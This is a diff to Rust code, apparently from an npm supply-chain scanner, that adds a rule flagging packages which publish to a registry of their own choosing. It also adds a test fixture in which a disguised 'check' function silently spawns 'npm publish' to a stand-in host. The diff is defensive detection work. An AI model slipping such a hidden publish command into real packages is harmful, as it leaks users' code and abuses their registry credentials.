@@ -2,7 +2,9 @@
 
 use std::collections::BTreeSet;
 
+use super::host;
 use super::judge::{self, ByTrigger};
+use super::provenance::{FORGES, Whose};
 use super::{Context, Declaration, Example, Finding};
 use crate::api::targets;
 use crate::behaviours::Behaviour;
@@ -76,6 +78,22 @@ setInterval(() => {
             ],
         },
         Example {
+            name: "a check before publication publishes, to a registry of its own choice",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js","bin":"b.js"}"#,
+                ),
+                ("b.js", "require('./i').check();"),
+                (
+                    "i.js",
+                    r#"const { spawnSync } = require("child_process");
+exports.check = () => spawnSync("npm", ["publish", "--registry", "https://packages.other.invalid/"], { stdio: "ignore" });"#,
+                ),
+            ],
+        },
+        Example {
             name: "a release tool that its user runs",
             severity: None,
             files: &[
@@ -122,11 +140,15 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         // A tool changes the project in which it runs; a file that nothing leads to is no tool.
         let spreads = (here(&changing) && (here(&stealing) || !by_command))
             || (reach.is_dormant() && here(&rewriting));
-        if !unasked && !spreads {
+        let foreign = foreign_registry(context, behaviour);
+        if !unasked && !spreads && foreign.is_none() {
             continue;
         }
         let what = behaviour.target.as_deref().unwrap_or("a package");
-        let message = format!("publishes {what}");
+        let message = match foreign {
+            Some(host) => format!("publishes {what} to {host}, which the package chose"),
+            None => format!("publishes {what}"),
+        };
         let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
         if reach.is_dormant() {
             let note = "no surface of the package leads to this file".to_owned();
@@ -136,6 +158,27 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         }
         found.push(finding);
     }
+}
+
+/// The host that a command for publishing names, if it is nobody's registry and not the package's.
+fn foreign_registry(context: &Context<'_>, behaviour: &Behaviour) -> Option<String> {
+    let commands = context.behaviours.iter().filter(|one| {
+        let mut sites = one.sites.iter();
+        one.what.id.starts_with("process.") && sites.any(|at| behaviour.sites.contains(at))
+    });
+    let commands = commands.filter_map(|one| one.target.as_deref());
+    let publish = commands.filter(|line| line.split(' ').any(|word| word == "publish"));
+    let hosts: Option<Vec<String>> = publish
+        .map(|line| {
+            let (_, rest) = line.split_once("--registry")?;
+            let url = rest.trim_start_matches(['=', ' ']).split(' ').next()?;
+            let at = host::host(url)?;
+            let is_foreign = context.home.whose(url) == Some(Whose::Foreign);
+            (is_foreign && !FORGES.contains(&host::label(&at))).then_some(at)
+        })
+        .collect();
+    // A default is for its user to change.
+    hosts?.into_iter().next()
 }
 
 /// Who asks a registry for its user's name and then for that user's packages lists what a token
